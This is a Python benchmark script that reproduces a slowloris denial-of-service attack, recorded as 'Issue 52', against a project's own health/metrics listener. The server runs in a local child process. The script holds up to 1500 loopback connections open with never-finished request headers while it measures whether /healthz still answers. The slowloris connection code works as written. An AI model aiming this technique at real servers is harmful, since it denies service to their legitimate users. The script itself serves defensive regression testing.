"""Issue 52 (LOW): a slowloris of 1500 connections against the metrics/health listener.

The listener (``mushrooms.daemon.ops.health.HealthServer``, default settings) runs in a child
process with the unit's ``LimitNOFILE=65536`` (as far as the hard limit allows).  The attacker
opens ``--idle`` connections to it on loopback and keeps them alive like a slowloris: every
second each one sends one more header line (never the blank line that ends a head), and every
connection the server drops is opened again.  Meanwhile a scraper asks ``/healthz`` every
0.5 s (5 s timeout) for ``--seconds``.  Printed: how many of those were answered 200 and their
latency, the child's threads (peak), and how many tracebacks / log lines the child wrote.

    python benchmarks/attacks/metrics_slowloris.py [--idle 1500] [--seconds 30] [--code DIR]

``--code DIR``: import ``mushrooms`` from DIR (e.g. an export of main before the fix).
"""

from __future__ import annotations

import argparse
import json
import os
import resource
import socket
import statistics
import subprocess
import sys
import tempfile
import threading
import time
import urllib.request
from pathlib import Path


def child(state: str, port_file: str) -> None:
    """The listener in a process of its own; prints its thread count for each line read on stdin."""
    import logging

    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(name)s: %(message)s", stream=sys.stderr)
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = 65536 if hard == resource.RLIM_INFINITY else min(hard, 65536)
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, want), hard))
    from mushrooms.daemon.ops.health import HealthServer
    from mushrooms.daemon.ops.metrics import ServiceMetrics
    from mushrooms.daemon.state.store import Store

    Store(Path(state)).close()
    listener = HealthServer("127.0.0.1", 0, ServiceMetrics("0", Path(state)), lambda: (True, {"phase": "running"}))
    listener.start()
    Path(port_file).write_text(str(listener.address[1]))
    for _ in sys.stdin:
        print(threading.active_count(), flush=True)


class Loris:
    """``n`` connections that never finish their request head, re-opened when dropped."""

    def __init__(self, port: int, n: int) -> None:
        self.port, self.socks, self.reopened, self.failed = port, [], 0, 0
        for _ in range(n):
            self.socks.append(self._open())

    def _open(self) -> socket.socket | None:
        try:
            s = socket.create_connection(("127.0.0.1", self.port), timeout=2)
            s.sendall(b"GET /metrics HTTP/1.1\r\nHost: x\r\n")
            return s
        except OSError:
            self.failed += 1
            return None

    def drip(self) -> None:
        for k, s in enumerate(self.socks):
            try:
                if s is None:
                    raise OSError("closed")
                s.sendall(b"X-a: b\r\n")
            except OSError:
                if s is not None:
                    s.close()
                self.socks[k] = self._open()
                self.reopened += 1

    def close(self) -> None:
        for s in self.socks:
            if s is not None:
                s.close()


def main() -> int:
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("--idle", type=int, default=1500)
    p.add_argument("--seconds", type=float, default=30.0)
    p.add_argument("--code", default=None, help="import mushrooms from this directory")
    a = p.parse_args()
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(hard, a.idle + 1000)), hard))
    tmp = Path(tempfile.mkdtemp(prefix="slowloris-"))
    env = dict(os.environ)
    code = str(Path(a.code).resolve()) if a.code else str(Path(__file__).resolve().parents[2])
    env["PYTHONPATH"] = code
    err = open(tmp / "child.err", "w+")
    proc = subprocess.Popen([sys.executable, __file__, "child", str(tmp / "s.sqlite"), str(tmp / "port")],
                            stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=err, text=True, env=env, cwd=tmp)
    for _ in range(600):
        if (tmp / "port").exists() and (tmp / "port").read_text():
            break
        time.sleep(0.1)
    port = int((tmp / "port").read_text())

    def threads() -> int:
        proc.stdin.write("?\n")
        proc.stdin.flush()
        return int(proc.stdout.readline())

    base_threads = threads()
    t0 = time.monotonic()
    loris = Loris(port, a.idle)
    open_s = time.monotonic() - t0
    res = {"answered": 0, "asked": 0, "latencies": [], "failures": {}, "peak": base_threads}
    end = time.monotonic() + a.seconds

    def scrape() -> None:  # the scraper, on a clock of its own
        while time.monotonic() < end:
            t = time.monotonic()
            res["asked"] += 1
            try:
                with urllib.request.urlopen(f"http://127.0.0.1:{port}/healthz", timeout=5) as r:
                    if r.status == 200 and json.loads(r.read()).get("alive") is True:
                        res["answered"] += 1
                        res["latencies"].append(time.monotonic() - t)
            except Exception as exc:  # noqa: BLE001 - any failure is a result here
                res["failures"][type(exc).__name__] = res["failures"].get(type(exc).__name__, 0) + 1
            res["peak"] = max(res["peak"], threads())
            time.sleep(max(0.0, 0.5 - (time.monotonic() - t)))

    scraper = threading.Thread(target=scrape)
    scraper.start()
    while time.monotonic() < end:
        t = time.monotonic()
        loris.drip()
        time.sleep(max(0.0, 1.0 - (time.monotonic() - t)))
    scraper.join()
    answered, asked, latencies, failures, peak = (res["answered"], res["asked"], res["latencies"], res["failures"],
                                                  res["peak"])
    alive_socks = sum(s is not None for s in loris.socks)
    loris.close()
    time.sleep(1.0)
    proc.stdin.close()
    proc.terminate()
    proc.wait(10)
    err.seek(0)
    text = err.read()
    lines = [ln for ln in text.splitlines() if ln.strip()]
    print(f"code: {code}")
    print(f"load: {os.getloadavg()[0]:.2f} {os.getloadavg()[1]:.2f} {os.getloadavg()[2]:.2f} (1/5/15 min)")
    print(f"attack: {a.idle} slowloris connections opened in {open_s:.2f} s, one header line each per second, "
          f"re-opened when dropped ({loris.reopened} re-openings, {loris.failed} connects failed); "
          f"{alive_socks} held at the end")
    print(f"/healthz asked every 0.5 s for {a.seconds:g} s: {answered} of {asked} answered 200 "
          f"(failures: {failures or 'none'})")
    if latencies:
        print(f"latency of the answered: median {statistics.median(latencies) * 1000:.1f} ms, "
              f"max {max(latencies) * 1000:.1f} ms")
    print(f"listener process threads: {base_threads} before the attack, peak {peak} during it")
    print(f"child stderr: {len(lines)} line(s), {text.count('Traceback')} traceback(s), "
          f"{text.count('Exception occurred during processing')} 'Exception occurred' block(s)")
    for ln in [ln for ln in lines if "event=" in ln][:5]:
        print(f"  log: {ln[:300]}")
    return 0


if __name__ == "__main__":
    if len(sys.argv) > 1 and sys.argv[1] == "child":
        sys.path.insert(0, os.environ.get("PYTHONPATH", ""))
        child(sys.argv[2], sys.argv[3])
    else:
        sys.exit(main())
